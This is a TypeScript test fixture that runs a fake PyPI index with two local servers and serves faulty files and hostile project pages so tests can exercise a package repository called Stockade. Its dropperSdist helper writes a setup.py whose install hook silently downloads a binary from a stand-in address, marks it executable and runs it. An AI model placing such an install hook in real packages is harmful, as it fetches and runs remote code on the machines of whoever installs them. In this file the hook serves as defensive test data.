/**
 * A small PyPI index on 127.0.0.1 that plays the upstream of a remote repository: PEP 691 JSON
 * project pages at `/simple/NAME/` (file URLs relative to the page, as Stockade writes them) and
 * files at `/packages/FILE`, or on a separate file host (another origin, as public indexes keep
 * their files) under an absolute URL. It misbehaves on demand (wrong checksums, truncated,
 * endless or stalled files, huge pages, HTML only, no answer at all) and counts every request,
 * so tests can see what reached the upstream.
 */
import { createHash } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { type BuiltDist, buildSdist } from '../formats/pypi/build-dist.js';

export type FileMode = 'ok' | 'wrong-checksum' | 'truncated' | 'endless' | 'stall';

export interface FixtureFileOptions {
  /** PEP 700 upload time; null leaves it out. Default: long ago. */
  uploadTime?: string | null;
  mode?: FileMode;
  /** true, or a reason. */
  yanked?: boolean | string;
  requiresPython?: string;
  /** Leaves the sha256 out of `hashes`. */
  noHash?: boolean;
  /** Listed and served on the separate file host instead of the index itself. */
  onFileHost?: boolean;
}

interface FixtureFile extends FixtureFileOptions {
  dist: BuiltDist;
}

export interface PypiUpstream {
  /** The index URL to configure as the upstream (the Simple API is at `{url}/simple/`). */
  url: string;
  /** The origin of the separate file host. */
  filesUrl: string;
  /** Requests per path, e.g. `/simple/demo/` or `/packages/demo-1.0-py3-none-any.whl`. */
  hits(path: string): number;
  /** Requests per path to the file host. */
  fileHits(path: string): number;
  /** Every request's path, in order. */
  paths: string[];
  /** The Accept header of every project page request, in order. */
  accepts: (string | undefined)[];
  /** Drops connections while true. */
  down: boolean;
  /** Answers project pages only in HTML (an index without PEP 691), while true. */
  htmlOnly: boolean;
  /** Adds a file to the page of the project its name belongs to. */
  add(project: string, dist: BuiltDist, options?: FixtureFileOptions): void;
  /** Lists a raw entry on a project's page, as given (hostile pages). */
  addRaw(project: string, entry: unknown): void;
  /** Replaces a project's whole page body (hostile pages). */
  setPage(project: string, body: string): void;
  /** Makes the page of `project` a document of about `bytes` bytes. */
  bloat(project: string, bytes: number): void;
  close(): Promise<void>;
}

/** An sdist whose setup.py fetches and runs a binary when installed, as the e2e suite's dropper. */
export function dropperSdist(name: string, version: string): BuiltDist {
  const setup = [
    'import os, stat, subprocess, urllib.request',
    'from setuptools import setup',
    'from setuptools.command.install import install',
    '',
    'class PostInstall(install):',
    '    def run(self):',
    '        install.run(self)',
    "        target = os.path.join(os.path.expanduser('~'), '.cache', 'json-updater')",
    "        urllib.request.urlretrieve('http://203.0.113.7/u.bin', target)",
    '        os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)',
    '        subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
    '',
    `setup(name='${name}', version='${version}', packages=[], cmdclass={'install': PostInstall})`,
    '',
  ].join('\n');
  return buildSdist({ name, version, files: [{ path: 'setup.py', body: setup }] });
}

const normalize = (name: string) => name.replace(/[-_.]+/g, '-').toLowerCase();
const sha256 = (data: Buffer) => createHash('sha256').update(data).digest('hex');

export async function startPypiUpstream(): Promise<PypiUpstream> {
  const projects = new Map<string, { name: string; files: FixtureFile[]; raw: unknown[] }>();
  const pages = new Map<string, string>();
  const padding = new Map<string, number>();
  const counts = new Map<string, number>();
  const fileCounts = new Map<string, number>();
  const paths: string[] = [];
  const accepts: (string | undefined)[] = [];
  const sockets = new Set<Socket>();
  // The switches tests flip: the fixture object returned below is this very object.
  const state = { down: false, htmlOnly: false };
  let filesUrl = '';
  const packageUrl = (file: FixtureFile) => `${file.onFileHost ? `${filesUrl}/` : '../../'}packages/${encodeURIComponent(file.dist.filename)}`;

  function projectOf(name: string) {
    const key = normalize(name);
    let project = projects.get(key);
    if (!project) projects.set(key, (project = { name, files: [], raw: [] }));
    return project;
  }

  function jsonEntry(file: FixtureFile): Record<string, unknown> {
    const digest = sha256(file.mode === 'wrong-checksum' ? Buffer.from('something else') : file.dist.data);
    const entry: Record<string, unknown> = {
      filename: file.dist.filename,
      url: packageUrl(file),
      hashes: file.noHash ? { md5: createHash('md5').update(file.dist.data).digest('hex') } : { sha256: digest },
      yanked: file.yanked ?? false,
      size: file.dist.data.length,
      // The upstream's own .metadata is declared, so tests can see Stockade never passes it on.
      'core-metadata': file.dist.filename.endsWith('.whl') ? { sha256: '0'.repeat(64) } : false,
    };
    if (file.requiresPython !== undefined) entry['requires-python'] = file.requiresPython;
    const uploaded = file.uploadTime === undefined ? '2021-01-01T00:00:00.000000Z' : file.uploadTime;
    if (uploaded !== null) entry['upload-time'] = uploaded;
    return entry;
  }

  function page(key: string, html: boolean): string | null {
    const fixed = pages.get(key);
    if (fixed !== undefined) return fixed;
    const project = projects.get(key);
    if (!project) return null;
    if (html) {
      const links = project.files.map((f) => `<a href="${packageUrl(f)}#sha256=${sha256(f.dist.data)}">${f.dist.filename}</a><br>`);
      return `<!DOCTYPE html>\n<html><body><h1>Links for ${key}</h1>\n${links.join('\n')}\n</body></html>\n`;
    }
    const doc: Record<string, unknown> = { meta: { 'api-version': '1.1' }, name: key, versions: [], files: [...project.files.map(jsonEntry), ...project.raw] };
    const pad = padding.get(key);
    if (pad) doc.padding = 'x'.repeat(pad);
    return JSON.stringify(doc);
  }

  function sendPage(request: IncomingMessage, response: ServerResponse, key: string) {
    accepts.push(request.headers.accept);
    const html = state.htmlOnly || !(request.headers.accept ?? '').includes('application/vnd.pypi.simple.v1+json');
    const body = page(key, html);
    if (body === null) return response.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
    const etag = `"${sha256(Buffer.from(body)).slice(0, 32)}"`;
    if (request.headers['if-none-match'] === etag) return response.writeHead(304, { etag }).end();
    const type = html ? 'text/html; charset=utf-8' : 'application/vnd.pypi.simple.v1+json';
    response.writeHead(200, { 'content-type': type, etag, 'content-length': Buffer.byteLength(body) }).end(body);
  }

  function sendFile(request: IncomingMessage, response: ServerResponse, filename: string, onFileHost: boolean) {
    const file = [...projects.values()].flatMap((p) => p.files).find((f) => f.dist.filename === filename && (f.onFileHost ?? false) === onFileHost);
    if (!file) return response.writeHead(404).end('not found');
    const data = file.dist.data;
    switch (file.mode) {
      case 'truncated':
        response.writeHead(200, { 'content-length': data.length, 'content-type': 'application/octet-stream' });
        response.write(data.subarray(0, data.length >> 1));
        // Closing before the declared length is reached: the client sees a cut-off body.
        setTimeout(() => request.socket.destroy(), 20);
        return;
      case 'endless': {
        response.writeHead(200, { 'content-type': 'application/octet-stream' });
        const chunk = Buffer.alloc(64 * 1024, 7);
        const pump = () => {
          while (!response.destroyed && response.write(chunk));
          if (!response.destroyed) response.once('drain', pump);
        };
        pump();
        return;
      }
      case 'stall':
        response.writeHead(200, { 'content-type': 'application/octet-stream' });
        response.write(data.subarray(0, 10));
        return;
      default:
        response.writeHead(200, { 'content-length': data.length, 'content-type': 'application/octet-stream' }).end(data);
    }
  }

  const server: Server = createServer((request, response) => {
    const path = decodeURIComponent((request.url ?? '/').split('?')[0] as string);
    counts.set(path, (counts.get(path) ?? 0) + 1);
    paths.push(path);
    if (state.down) return request.socket.destroy();
    const project = /^\/simple\/([^/]+)\/$/.exec(path);
    if (project) return sendPage(request, response, project[1] as string);
    const file = /^\/packages\/([^/]+)$/.exec(path);
    if (file) return sendFile(request, response, file[1] as string, false);
    response.writeHead(404).end('not found');
  });
  const fileHost: Server = createServer((request, response) => {
    const path = decodeURIComponent((request.url ?? '/').split('?')[0] as string);
    fileCounts.set(path, (fileCounts.get(path) ?? 0) + 1);
    const file = /^\/packages\/([^/]+)$/.exec(path);
    if (file) return sendFile(request, response, file[1] as string, true);
    response.writeHead(404).end('not found');
  });
  for (const listening of [server, fileHost]) {
    listening.on('connection', (socket) => {
      sockets.add(socket);
      socket.on('close', () => sockets.delete(socket));
    });
    await new Promise<void>((resolve) => listening.listen(0, '127.0.0.1', resolve));
  }
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  filesUrl = `http://127.0.0.1:${(fileHost.address() as AddressInfo).port}`;

  const methods: Omit<PypiUpstream, keyof typeof state> = {
    url,
    filesUrl,
    hits: (path) => counts.get(path) ?? 0,
    fileHits: (path) => fileCounts.get(path) ?? 0,
    paths,
    accepts,
    add(project, dist, options = {}) {
      projectOf(project).files.push({ dist, ...options });
    },
    addRaw(project, entry) {
      projectOf(project).raw.push(entry);
    },
    setPage(project, body) {
      pages.set(normalize(project), body);
    },
    bloat(project, bytes) {
      padding.set(normalize(project), bytes);
    },
    async close() {
      for (const socket of sockets) socket.destroy();
      await Promise.all([server, fileHost].map((listening) => new Promise<void>((resolve) => listening.close(() => resolve()))));
    },
  };
  return Object.assign(state, methods);
}
